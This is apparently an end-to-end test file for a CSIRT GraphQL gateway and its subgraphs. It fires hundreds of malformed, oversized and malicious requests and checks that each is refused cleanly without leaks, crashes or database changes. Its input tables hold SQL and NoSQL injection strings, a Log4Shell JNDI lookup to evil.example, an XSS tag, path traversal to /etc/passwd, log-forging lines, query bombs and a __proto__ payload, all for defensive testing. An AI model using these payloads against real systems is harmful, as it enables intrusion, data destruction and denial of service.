import { randomUUID } from 'node:crypto';
import { Client } from 'pg';
import { bearer, gatewayHeadersFor, testDatabaseUrl } from '@csirt/testing';
import { startStack, SUBGRAPH_NAMES, type Stack } from './support/stack';

/**
 * The hostile corpus: hundreds of malformed, oversized and malicious requests sent to the
 * gateway and to every subgraph directly, generated from the tables below (one row per
 * kind of request × target). Whatever arrives, every answer is a 4xx or a GraphQL error
 * with a stable code, comes back within a second and carries no stack, path or SQL; no
 * process exits, and no database changes.
 */

type SubgraphName = (typeof SUBGRAPH_NAMES)[number];

interface RawRequest {
  method?: string;
  /** Query string for GET requests (`?query=...`). */
  search?: Record<string, string>;
  headers?: Record<string, string>;
  body?: string | Buffer;
  /** null: no Authorization header; default: an ADMIN token. */
  auth?: string | null;
}

/** What a row may additionally require of the answer (besides the assertions every answer gets). */
interface Expectation {
  status?: number;
  code?: string;
}

interface Probe {
  kind: string;
  target: string;
  url: () => string;
  request: RawRequest;
  expect?: Expectation;
}

interface Answer {
  status: number;
  text: string;
  elapsedMs: number;
}

let stack: Stack;
let admin: string;

/**
 * Every corpus request leaves through here. A subgraph called directly will also need the
 * gateway-to-subgraph credential once that exists: add its header in this one place.
 */
async function send(url: string, request: RawRequest): Promise<Answer> {
  const auth = request.auth === undefined ? admin : request.auth;
  const target = new URL(url);
  for (const [name, value] of Object.entries(request.search ?? {})) target.searchParams.set(name, value);
  // Directly to a subgraph, the corpus speaks as the gateway would, so every hostile input
  // reaches the subgraph's own defences rather than stopping at the credential check.
  const headers: Record<string, string> = {
    ...(await gatewayHeadersFor(url)),
    ...(auth ? { authorization: auth } : {}),
    ...(request.headers ?? {}),
  };
  const started = performance.now();
  const response = await fetch(target, { method: request.method ?? 'POST', headers, body: request.body });
  const text = await response.text();
  return { status: response.status, text, elapsedMs: performance.now() - started };
}

const JSON_HEADERS = { 'content-type': 'application/json' };
const post = (body: unknown, extra: Partial<RawRequest> = {}): RawRequest => ({
  method: 'POST',
  headers: JSON_HEADERS,
  body: typeof body === 'string' ? body : JSON.stringify(body),
  ...extra,
});
const op = (query: string, variables: Record<string, unknown> = {}, extra: Partial<RawRequest> = {}) => post({ query, variables }, extra);

const UUID = '5f0b7c1e-8a2d-4c3b-9e4f-1a2b3c4d5e6f';
const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE report; --",
  '1; DROP TABLE incident CASCADE',
  '%_%\\',
  '{"$ne": null}',
  '{"$where": "sleep(1000)"}',
  'line one\n[error] forged log line\r\nlevel=error msg="forged"',
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
];
const BAD_DATES = ['yesterday', '2026-13-45T99:99:99Z', '', '2026-11-23', '9'.repeat(300)];
const cursor = (value: string) => Buffer.from(value).toString('base64url');
const BAD_CURSORS = [
  'not-a-cursor',
  cursor('{"at":"x","id":"y"}'),
  cursor(`{"at":"2026-01-01T00:00:00Z","id":"1' OR '1'='1"}`),
  cursor('{"at":"2026-01-01T00:00:00Z; DROP TABLE x","id":"5f0b7c1e-8a2d-4c3b-9e4f-1a2b3c4d5e6f"}'),
  cursor('[1,2,3]'),
  'A'.repeat(10_000),
];

/** The operations each subgraph offers, with the variables the corpus fills with hostile values. */
interface Operations {
  byId: string;
  list: string;
  /** Variables for `list` with `value` as its free-text filter, when there is one. */
  text?: (value: string) => Record<string, unknown>;
  /** Variables for `list` with `value` as a DateTime filter, when there is one. */
  date?: (value: unknown) => Record<string, unknown>;
  /** Variables for `list` with a list filter of `count` values, when there is one. */
  many?: (count: number) => Record<string, unknown>;
  /** An inline-literal list query, for lists inside the document itself. */
  literalList?: (count: number) => string;
  mutation: string;
  mutationVariables: (value: string) => Record<string, unknown>;
  /** A type with a recursive or deep selection, for fragment bombs. */
  bombType: string;
  bombField: string;
  bombRoot: string;
  entity: string;
}

const OPERATIONS: Record<SubgraphName, Operations> = {
  intake: {
    byId: 'query ($id: ID!) { report(id: $id) { id title } }',
    list: 'query ($filter: ReportFilter, $first: Int, $after: String) { reports(filter: $filter, first: $first, after: $after) { edges { cursor node { id } } } }',
    text: (value) => ({ filter: { text: value } }),
    date: (value) => ({ filter: { receivedFrom: value } }),
    many: (count) => ({ filter: { status: Array.from({ length: count }, () => 'NEW') } }),
    literalList: (count) => `{ reports(filter: { status: [${Array.from({ length: count }, () => 'NEW').join(',')}] }) { edges { cursor } } }`,
    mutation: 'mutation ($input: SubmitReportInput!) { submitReport(input: $input) { id } }',
    mutationVariables: (value) => ({
      input: { channel: 'WEB_FORM', reporter: { name: value, email: 'a@example.org' }, title: value, description: value },
    }),
    bombType: 'Report',
    bombField: 'id title',
    bombRoot: 'reports { edges { node { ...f{N} } } }',
    entity: 'Report',
  },
  incidents: {
    byId: 'query ($id: ID!) { incident(id: $id) { id title } }',
    list: 'query ($filter: IncidentFilter, $first: Int, $after: String) { incidents(filter: $filter, first: $first, after: $after) { edges { cursor node { id } } } }',
    text: (value) => ({ filter: { text: value } }),
    date: (value) => ({ filter: { openedFrom: value } }),
    many: (count) => ({ filter: { severity: Array.from({ length: count }, (_, i) => (i % 4) + 1) } }),
    literalList: (count) => `{ incidents(filter: { severity: [${Array.from({ length: count }, () => '1').join(',')}] }) { edges { cursor } } }`,
    mutation: 'mutation ($id: ID!, $message: String!) { addTimelineEntry(incidentId: $id, message: $message) { id } }',
    mutationVariables: (value) => ({ id: UUID, message: value }),
    bombType: 'Incident',
    bombField: 'id title',
    bombRoot: 'incidents { edges { node { ...f{N} } } }',
    entity: 'Incident',
  },
  teams: {
    byId: 'query ($id: ID!) { person(id: $id) { id name } }',
    list: 'query ($filter: PersonFilter, $first: Int, $after: String) { people(filter: $filter, first: $first, after: $after) { edges { cursor node { id } } } }',
    text: (value) => ({ filter: { skill: value } }),
    mutation: 'mutation ($input: CreatePersonInput!) { createPerson(input: $input) { id } }',
    mutationVariables: (value) => ({ input: { name: value, email: 'p@example.org', roles: [] } }),
    bombType: 'Person',
    bombField: 'id name',
    bombRoot: 'people { edges { node { ...f{N} } } }',
    entity: 'Person',
  },
  announcements: {
    byId: 'query ($id: ID!) { advisory(id: $id) { id title } }',
    list: 'query ($filter: AdvisoryFilter, $first: Int, $after: String) { advisories(filter: $filter, first: $first, after: $after) { edges { cursor node { id } } } }',
    text: (value) => ({ filter: { incidentId: value } }),
    mutation: 'mutation ($input: DraftAdvisoryInput!) { draftAdvisory(input: $input) { id } }',
    mutationVariables: (value) => ({ input: { kind: 'ALERT', title: value, summary: value, severity: 2, tlp: 'CLEAR' } }),
    bombType: 'Advisory',
    bombField: 'id title',
    bombRoot: 'advisories { edges { node { ...f{N} } } }',
    entity: 'Advisory',
  },
};

function fragmentBomb(ops: Operations, levels: number): string {
  let query = `query Bomb { ${ops.bombRoot.replace('{N}', String(levels))} }\nfragment f0 on ${ops.bombType} { ${ops.bombField} }\n`;
  for (let level = 1; level <= levels; level += 1) {
    query += `fragment f${level} on ${ops.bombType} { ...f${level - 1} ...f${level - 1} }\n`;
  }
  return query;
}

const BAD_USER_INPUT = { status: 400, code: 'BAD_USER_INPUT' };

/** Kinds that need nothing of the schema: the HTTP surface and the GraphQL request envelope. */
const GENERIC: { kind: string; request: RawRequest; expect?: Expectation }[] = [
  { kind: 'invalid JSON', request: post('{"query": '), expect: { status: 400, code: 'BAD_REQUEST' } },
  { kind: 'JSON string body', request: post('"{ __typename }"'), expect: { status: 400, code: 'BAD_REQUEST' } },
  { kind: 'JSON null body', request: post('null'), expect: { status: 400, code: 'BAD_REQUEST' } },
  { kind: 'empty body', request: post(''), expect: { status: 400, code: 'BAD_REQUEST' } },
  { kind: 'batched array', request: post([{ query: '{ __typename }' }, { query: '{ __typename }' }]), expect: { status: 400, code: 'BAD_REQUEST' } },
  { kind: 'invalid UTF-8', request: { ...post(''), body: Buffer.from([0x7b, 0x22, 0x71, 0xff, 0xfe, 0xc0, 0x7d]) }, expect: { status: 400 } },
  { kind: 'text/plain', request: { method: 'POST', headers: { 'content-type': 'text/plain' }, body: '{"query":"{ __typename }"}' }, expect: { status: 415 } },
  { kind: 'form-urlencoded', request: { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'query=%7B__typename%7D' }, expect: { status: 415 } },
  { kind: 'multipart', request: { method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=x' }, body: '--x\r\n\r\n--x--' }, expect: { status: 415 } },
  { kind: 'no content type', request: { method: 'POST', body: '{"query":"{ __typename }"}' }, expect: { status: 415 } },
  { kind: 'oversized body', request: post(JSON.stringify({ query: '{ __typename }', variables: { x: 'a'.repeat(1_100_000) } })), expect: { status: 413 } },
  { kind: 'PUT', request: { method: 'PUT', headers: JSON_HEADERS, body: '{"query":"{ __typename }"}' }, expect: { status: 405 } },
  { kind: 'DELETE', request: { method: 'DELETE' }, expect: { status: 405 } },
  { kind: 'GET without query', request: { method: 'GET', headers: { 'apollo-require-preflight': 'true' } }, expect: { status: 400 } },
  { kind: 'GET without CSRF header', request: { method: 'GET', search: { query: '{ __typename }' } }, expect: { status: 400 } },
  { kind: 'GET query', request: { method: 'GET', search: { query: '{ __typename }' }, headers: { 'apollo-require-preflight': 'true' } }, expect: { status: 200 } },
  { kind: 'GET with NUL variable', request: { method: 'GET', search: { query: 'query ($a: String) { __typename }', variables: '{"a":"x\\u0000"}' }, headers: { 'apollo-require-preflight': 'true' } }, expect: BAD_USER_INPUT },
  { kind: 'syntax error', request: op('{ '), expect: { status: 400, code: 'GRAPHQL_PARSE_FAILED' } },
  { kind: 'query not a string', request: post({ query: 42 }), expect: { status: 400, code: 'BAD_REQUEST' } },
  { kind: 'variables not an object', request: post({ query: '{ __typename }', variables: 'x' }), expect: { status: 400, code: 'BAD_REQUEST' } },
  { kind: 'missing operation name', request: op('query A { __typename } query B { __typename }'), expect: { status: 400, code: 'OPERATION_RESOLUTION_FAILURE' } },
  { kind: 'unknown operation name', request: post({ query: 'query A { __typename }', operationName: 'Nope' }), expect: { status: 400, code: 'OPERATION_RESOLUTION_FAILURE' } },
  { kind: 'subscription', request: op('subscription { __typename }'), expect: { status: 400 } },
  { kind: 'APQ hash mismatch', request: post({ query: '{ __typename }', extensions: { persistedQuery: { version: 1, sha256Hash: 'a'.repeat(64) } } }), expect: { status: 400, code: 'BAD_REQUEST' } },
  { kind: 'APQ unknown hash', request: post({ extensions: { persistedQuery: { version: 1, sha256Hash: 'b'.repeat(64) } } }), expect: { code: 'PERSISTED_QUERY_NOT_FOUND' } },
  { kind: 'alias bomb', request: op(`{ ${Array.from({ length: 5_000 }, (_, i) => `a${i}: __typename`).join(' ')} }`), expect: { status: 400 } },
  { kind: 'directive bomb', request: op(`{ __typename ${'@skip(if: false) '.repeat(500)} }`), expect: { status: 400 } },
  { kind: 'token bomb', request: op(`{ ${'__typename '.repeat(8_000)} }`), expect: { status: 400, code: 'TOO_MANY_TOKENS' } },
  { kind: '500 kB document', request: op(`{ ${'__typename '.repeat(50_000)} }`), expect: BAD_USER_INPUT },
  { kind: 'deep introspection', request: op(`{ __schema { types { ${'fields { type { '.repeat(10)} name ${'} } '.repeat(10)} } } }`), expect: { status: 400 } },
  { kind: 'NUL in variable', request: op('query ($a: String) { __typename }', { a: 'x\u0000y' }), expect: BAD_USER_INPUT },
  { kind: 'lone surrogate in variable', request: op('query ($a: String) { __typename }', { a: 'x\ud800y' }), expect: BAD_USER_INPUT },
  { kind: 'NUL in inline literal', request: op('{ __type(name: "a\\u0000b") { name } }'), expect: { status: 400 } },
  { kind: 'NUL in operation name', request: post({ query: '{ __typename }', operationName: 'A\u0000' }), expect: BAD_USER_INPUT },
  { kind: '100k-value variable', request: op('query ($a: [Int]) { __typename }', { a: Array.from({ length: 100_000 }, () => 1) }), expect: BAD_USER_INPUT },
  { kind: '900 kB string variable', request: op('query ($a: String) { __typename }', { a: 'x'.repeat(900_000) }), expect: BAD_USER_INPUT },
  { kind: 'deeply nested variable', request: post(`{"query":"query ($a: String) { __typename }","variables":{"a":${'['.repeat(20_000)}${']'.repeat(20_000)}}}`), expect: { status: 400 } },
  { kind: '__proto__ variable', request: post('{"query":"query ($a: Boolean!) { __typename @include(if: $a) }","variables":{"__proto__":{"admin":true},"a":true}}'), expect: { status: 200 } },
  { kind: 'garbage token', request: op('{ __typename }', {}, { auth: 'Bearer not.a.token' }), expect: { status: 401, code: 'UNAUTHENTICATED' } },
  { kind: 'huge header', request: op('{ __typename }', {}, { auth: `Bearer ${'x'.repeat(20_000)}` }), expect: { status: 431 } },
];

function targetedRows(name: SubgraphName): { kind: string; request: RawRequest; expect?: Expectation }[] {
  const ops = OPERATIONS[name];
  const rows: { kind: string; request: RawRequest; expect?: Expectation }[] = [];
  for (const [index, value] of [...INJECTIONS, 'not-a-uuid', 'x'.repeat(5_000)].entries()) {
    rows.push({ kind: `id #${index}`, request: op(ops.byId, { id: value }) });
  }
  if (ops.text) {
    for (const [index, value] of INJECTIONS.entries()) rows.push({ kind: `text filter #${index}`, request: op(ops.list, ops.text(value)) });
    rows.push({ kind: 'text filter 1 MB', request: op(ops.list, ops.text('y'.repeat(1_000_000))), expect: BAD_USER_INPUT });
    rows.push({ kind: 'text filter 2 MB', request: op(ops.list, ops.text('y'.repeat(2_000_000))), expect: { status: 413 } });
    rows.push({ kind: 'text filter 50 kB', request: op(ops.list, ops.text('%'.repeat(50_000))) });
    rows.push({ kind: 'text filter NUL', request: op(ops.list, ops.text('a\u0000b')), expect: BAD_USER_INPUT });
  }
  if (ops.date) {
    for (const value of [...BAD_DATES, 12345, { $gt: '' }]) {
      rows.push({ kind: `DateTime ${JSON.stringify(value).slice(0, 20)}`, request: op(ops.list, ops.date(value)), expect: { code: 'BAD_USER_INPUT' } });
    }
  }
  if (ops.many) rows.push({ kind: '100k filter values', request: op(ops.list, ops.many(100_000)), expect: BAD_USER_INPUT });
  if (ops.literalList) rows.push({ kind: '3000 literal filter values', request: op(ops.literalList(3_000)), expect: BAD_USER_INPUT });
  for (const [index, after] of BAD_CURSORS.entries()) rows.push({ kind: `cursor #${index}`, request: op(ops.list, { after }) });
  for (const first of [-1, 0, 1_000_000, 2 ** 31]) rows.push({ kind: `first ${first}`, request: op(ops.list, { first }) });
  rows.push({ kind: 'GET mutation', request: { method: 'GET', search: { query: ops.mutation, variables: JSON.stringify(ops.mutationVariables('x')) }, headers: { 'apollo-require-preflight': 'true' } }, expect: { status: 405 } });
  rows.push({ kind: 'mutation with NUL', request: op(ops.mutation, ops.mutationVariables('evil\u0000')), expect: BAD_USER_INPUT });
  rows.push({ kind: 'mutation with lone surrogate', request: op(ops.mutation, ops.mutationVariables('evil\udfff')), expect: BAD_USER_INPUT });
  rows.push({ kind: 'mutation with 300 kB strings', request: op(ops.mutation, ops.mutationVariables('z'.repeat(300_000))), expect: BAD_USER_INPUT });
  rows.push({ kind: 'mutation without token', request: op(ops.mutation, ops.mutationVariables('anonymous'), { auth: null }) });
  rows.push({ kind: 'fragment bomb 30', request: op(fragmentBomb(ops, 30)), expect: { status: 400 } });
  rows.push({ kind: 'field alias bomb', request: op(`{ ${Array.from({ length: 200 }, (_, i) => `a${i}: ${ops.bombRoot.replace('...f{N}', ops.bombField)}`).join(' ')} }`), expect: { status: 400, code: 'TOO_MANY_ALIASES' } });
  return rows;
}

/** Only on a subgraph called directly: the federation entry point. */
function entityRows(name: SubgraphName): { kind: string; request: RawRequest; expect?: Expectation }[] {
  const entity = OPERATIONS[name].entity;
  const query = 'query ($r: [_Any!]!) { _entities(representations: $r) { __typename } }';
  const crash = [{ __typename: entity, id: UUID }, { __typename: 'NoSuchType', id: UUID }];
  return [
    { kind: '_entities failing then unknown type, anonymous', request: op(query, { r: crash }, { auth: null }) },
    { kind: '_entities failing then unknown type', request: op(query, { r: crash }) },
    { kind: '_entities missing id then unknown type', request: op(query, { r: [{ __typename: entity }, { __typename: 'X' }] }), expect: BAD_USER_INPUT },
    { kind: '_entities non-uuid id', request: op(query, { r: [{ __typename: entity, id: "1' OR '1'='1" }] }), expect: BAD_USER_INPUT },
    { kind: '_entities non-object', request: op(query, { r: [42, 'x'] }), expect: BAD_USER_INPUT },
    { kind: '_entities null', request: op(query, { r: [null] }), expect: BAD_USER_INPUT },
    { kind: '_entities 6k', request: op(query, { r: Array.from({ length: 6_000 }, () => ({ __typename: entity, id: UUID })) }), expect: BAD_USER_INPUT },
    { kind: '_entities 30k', request: op(query, { r: Array.from({ length: 30_000 }, () => ({ __typename: entity, id: UUID })) }), expect: { status: 413 } },
    { kind: '_entities literal unknown', request: op(`{ _entities(representations: [{ __typename: "${entity}", id: "${UUID}" }, { __typename: "Nope" }]) { __typename } }`, {}, { auth: null }) },
    { kind: '_entities many valid', request: op(query, { r: Array.from({ length: 50 }, () => ({ __typename: entity, id: randomUUID() })) }) },
  ];
}

function corpus(): Probe[] {
  const probes: Probe[] = [];
  const endpoints: { target: string; url: () => string }[] = [
    { target: 'gateway', url: () => stack.gatewayUrl },
    ...SUBGRAPH_NAMES.map((name) => ({ target: name, url: () => stack.subgraphUrl(name) })),
  ];
  for (const endpoint of endpoints) {
    for (const row of GENERIC) probes.push({ ...row, ...endpoint });
  }
  for (const name of SUBGRAPH_NAMES) {
    for (const row of targetedRows(name)) {
      probes.push({ ...row, target: `gateway (${name} fields)`, url: () => stack.gatewayUrl });
      probes.push({ ...row, target: name, url: () => stack.subgraphUrl(name) });
    }
    for (const row of entityRows(name)) probes.push({ ...row, target: name, url: () => stack.subgraphUrl(name) });
  }
  return probes;
}

const PROBES = corpus();

// What must never appear in an answer: a stack frame, a file path, SQL or a driver message.
const LEAKS = [
  /\bat [\w.<>]+ \(/,
  /node_modules|\/work\/|\/home\/|\/src\/[\w/-]+\.ts/,
  /\.(ts|js):\d+/,
  /stacktrace/i,
  /QueryFailedError|syntax error at or near|invalid input syntax|violates .* constraint|relation "\w+"|pg_catalog/,
  /INTERNAL_SERVER_ERROR/,
];

/**
 * What a hostile request may leave behind: the audit trail's record of a refusal (its outbox
 * row, the inbox row of the teams consumer that stores it, and the entry itself). These are
 * counted apart, so "unchanged" means every other row, and every new entry is a denial.
 */
const REFUSAL_RECORDS: Record<string, string> = {
  messaging_outbox: "event_type LIKE 'audit.entry.recorded%'",
  messaging_inbox: "event_type LIKE 'audit.entry.recorded%'",
  audit_entries: "outcome = 'DENIED'",
};

async function rowCounts(): Promise<Record<string, number>> {
  const counts: Record<string, number> = {};
  for (const name of SUBGRAPH_NAMES) {
    const client = new Client({ connectionString: testDatabaseUrl(`csirt_test_e2e_${name}`) });
    await client.connect();
    try {
      const tables = await client.query<{ table_name: string }>(
        "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public' AND table_type = 'BASE TABLE' ORDER BY table_name",
      );
      for (const { table_name: table } of tables.rows) {
        const refusals = REFUSAL_RECORDS[table];
        const result = await client.query<{ n: string }>(`SELECT count(*) AS n FROM "${table}"${refusals ? ` WHERE NOT (${refusals})` : ''}`);
        counts[`${name}.${table}`] = Number(result.rows[0].n);
      }
    } finally {
      await client.end();
    }
  }
  return counts;
}

/** Counts once the consumers have caught up with whatever earlier suites left on the topics. */
async function settledRowCounts(): Promise<Record<string, number>> {
  let previous = await rowCounts();
  for (let attempt = 0; attempt < 20; attempt += 1) {
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    const current = await rowCounts();
    if (JSON.stringify(current) === JSON.stringify(previous)) return current;
    previous = current;
  }
  return previous;
}

describe('the hostile corpus', () => {
  let before: Record<string, number>;

  beforeAll(async () => {
    // Apollo shows stack traces by default outside production and test: the services are
    // started in development mode to show that none leaves them regardless.
    stack = await startStack({ NODE_ENV: 'development' });
    admin = await bearer(['ADMIN'], { subject: 'corpus-admin', clearance: 'AMBER_STRICT' });
    before = await settledRowCounts();
  }, 240_000);

  afterAll(async () => {
    await stack?.stop();
  });

  it('has at least 300 requests', () => {
    expect(PROBES.length).toBeGreaterThanOrEqual(300);
  });

  it.each(PROBES.map((probe) => [`${probe.target}: ${probe.kind}`, probe] as const))('%s', async (_, probe) => {
    const answer = await send(probe.url(), probe.request);
    expect(answer.status).toBeLessThan(500);
    for (const leak of LEAKS) expect(answer.text).not.toMatch(leak);
    expect(answer.elapsedMs).toBeLessThan(1_000);
    if (probe.expect?.status !== undefined) expect(answer.status).toBe(probe.expect.status);
    if (probe.expect?.code !== undefined) {
      const codes = (JSON.parse(answer.text) as { errors?: { extensions?: { code?: string } }[] }).errors?.map((e) => e.extensions?.code);
      expect(codes).toContain(probe.expect.code);
    }
    // Anything with a body that is not plain HTTP refusal is a GraphQL response with codes.
    if (answer.status !== 431 && answer.text.length > 0) {
      const body = JSON.parse(answer.text) as { errors?: { extensions?: { code?: unknown } }[] };
      for (const error of body.errors ?? []) expect(typeof error.extensions?.code).toBe('string');
    }
  });

  it('leaves every process running and every database unchanged', async () => {
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    expect(stack.exited()).toEqual([]);
    for (const name of SUBGRAPH_NAMES) expect((await fetch(stack.subgraphUrl(name).replace(/graphql$/, 'healthz'))).status).toBe(200);
    expect((await fetch(stack.gatewayUrl.replace(/graphql$/, 'healthz'))).status).toBe(200);
    expect(await rowCounts()).toEqual(before);
  });
});
